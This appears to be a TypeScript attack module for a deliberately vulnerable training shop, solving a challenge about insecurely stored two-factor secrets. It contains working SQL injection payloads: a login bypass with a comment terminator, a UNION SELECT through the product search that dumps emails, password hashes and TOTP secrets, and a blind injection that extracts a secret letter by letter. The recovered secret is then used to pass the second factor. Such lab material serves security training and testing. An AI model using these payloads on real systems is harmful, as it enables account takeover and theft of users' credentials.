import type { Attack, Tools } from '#lab'
import { logInAs } from './steps.ts'

/** What a token says about its owner. */
function ownerOf(token: string): Record<string, unknown> {
  const payload = token.split('.')[1] ?? ''
  return JSON.parse(atob(payload.replaceAll('-', '+').replaceAll('_', '/'))).data
}

/** Passes the password by injection, and the second factor with a code for this secret. */
async function passWith({ http, authenticator, expect, settings }: Tools, secret: string): Promise<void> {
  const email = `wurstbrot@${settings.domain}`
  const login = await http.post('/rest/user/login', { email: `${email}'--`, password: 'a' })
  expect(login.status === 401, `the login answered with ${login.status}`)
  const { tmpToken } = login.json<{ data: { tmpToken: string } }>().data
  const answer = await http.post('/rest/2fa/verify', { tmpToken, totpToken: await authenticator(secret) })
  expect(answer.status === 200, `the code was answered with ${answer.status}`)
}

/** Has the search list the accounts as products, with the secret as the picture. */
async function secretInSearch({ http, expect, settings }: Tools): Promise<string> {
  const union = "')) UNION SELECT null,id,email,password,totpsecret,null,null,null,null FROM users--"
  const answer = await http.get(`/rest/products/search?q=${encodeURIComponent(union)}`)
  expect(answer.status === 200, `the search answered with ${answer.status}`)
  const rows = answer.json<{ data: Record<string, unknown>[] }>().data
  const row = rows.map(Object.values).find((values) => values.includes(`wurstbrot@${settings.domain}`))
  const secret = row?.find((value) => /^[A-Z2-7]{32}$/.test(String(value)))
  expect(secret !== undefined, 'his secret is not among what was found')
  return String(secret)
}

/** Has the login write the secret into a token, as the name. */
async function secretInToken(tools: Tools): Promise<string> {
  const token = await logInAs(tools, 'wurstbrot', { username: 'totpSecret', totpSecret: "''" })
  return String(ownerOf(token).username)
}

/**
 * Guesses one letter of the secret at a time at the login: the second factor is only requested if the guess was right.
 */
async function secretByQuestions({ http, settings }: Tools): Promise<string> {
  const email = `wurstbrot@${settings.domain}`
  const isTrue = async (condition: string): Promise<boolean> => {
    const answer = await http.post('/rest/user/login', {
      email: `${email}' AND ${condition}--`,
      password: 'a',
    })
    return answer.text.includes('totp_token_required')
  }
  let secret = ''
  for (let place = 1; place <= 32; place++) {
    let [low, high] = ['2'.charCodeAt(0), 'Z'.charCodeAt(0)]
    while (low < high) {
      const middle = (low + high) >> 1
      if (await isTrue(`unicode(substr(totpSecret,${place},1))>${middle}`)) low = middle + 1
      else high = middle
    }
    secret += String.fromCharCode(low)
  }
  return secret
}

const challenge = 'twoFactorAuthUnsafeSecretStorageChallenge'

export const attacks: Attack[] = [
  {
    challenge,
    name: 'the search shows the secret, an authenticator turns it into a code',
    run: async (tools) => passWith(tools, await secretInSearch(tools)),
  },
  {
    challenge,
    name: 'a UNION in the login brings the secret out, an authenticator turns it into a code',
    run: async (tools) => passWith(tools, await secretInToken(tools)),
  },
  {
    challenge,
    name: 'the login gives the secret away letter by letter',
    run: async (tools) => passWith(tools, await secretByQuestions(tools)),
  },
]
